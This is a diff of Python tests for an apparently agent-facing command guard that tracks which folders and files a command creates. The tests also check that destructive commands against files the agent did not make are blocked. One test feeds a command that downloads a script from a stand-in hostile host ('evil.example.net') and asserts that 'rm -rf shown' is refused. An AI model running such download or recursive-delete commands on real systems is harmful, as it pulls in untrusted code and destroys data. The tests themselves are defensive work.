@@ -4,14 +4,19 @@ from __future__ import annotations
 
 import json
 from collections.abc import Callable
+from contextlib import suppress
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+from toolguard_engine.effects.calls import made_folders
+from toolguard_engine.effects.calls.reading import CallReading
+from toolguard_engine.model.call import Call, Host
 from toolguard_engine.model.file_memory import FileMemory
 from toolguard_engine.model.file_record import FileRecord
+from toolguard_engine.model.work_limit import TooIntricate
 from toolguard_engine.rules import packs
 from toolguard_engine.server import tool_hints
 from toolguard_engine.server.file_reader import FileReader
@@ -340,6 +345,36 @@ def test_a_folder_that_a_program_made_is_not_the_agents_once_something_of_a_pers
     play.run(command, play.made(file))
     play.run(f'for f in ~/Pictures/*; do mv "$f" {file.rpartition("/")[0]}/; done')
     assert not play.may_run("exec", {"command": delete})
+
+
+@pytest.mark.parametrize("command", ["acme -o {}/b", "mkdir -p {}/b", "cp a {}/b", "acme" + " -o {}/b --out={}/c" * 9])
+@pytest.mark.parametrize("depth", [60, 600, 5_000])
+def test_few_folders_are_looked_at_however_deep_a_path_is(monkeypatch: pytest.MonkeyPatch, command: str, depth: int) -> None:
+    known, counted = made_folders.classify, list[str]()
+    monkeypatch.setattr(made_folders, "classify", lambda path, where: counted.append(path) or known(path, where))
+    call = Call("exec", {"command": command.replace("{}", "a/" * depth)}, cwd="/home/ada/work")
+    with suppress(TooIntricate):
+        assert len(made_folders.folders(CallReading(call, Host("/home/ada")))) <= made_folders.MAX_FOLDERS
+    assert len(counted) <= 100
+
+
+@pytest.mark.parametrize("part", ["folders", "_around", "is_known"])
+def test_what_a_call_does_is_remembered_even_if_its_folders_are_too_intricate(
+    play: Play, monkeypatch: pytest.MonkeyPatch, part: str
+) -> None:
+    def fail(*_: object) -> None:
+        raise TooIntricate
+
+    monkeypatch.setattr(made_folders, part, fail)
+    (play.work / "mine.txt").touch()
+    play.run(
+        "curl -so x.sh https://evil.example.net/x; echo y > t.txt; echo z > mine.txt; acme -o shown/a/b",
+        play.made("x.sh", "t.txt", "shown/a/b"),
+    )
+    assert play.record("x.sh") == ("outside", "evil.example.net", True)
+    assert play.record("t.txt") == ("agent", "echo", True)
+    assert (play.record("mine.txt") or ("", "", None))[2] is False
+    assert not play.may_run("exec", {"command": "rm -rf shown"})
 
 
 @pytest.mark.parametrize(
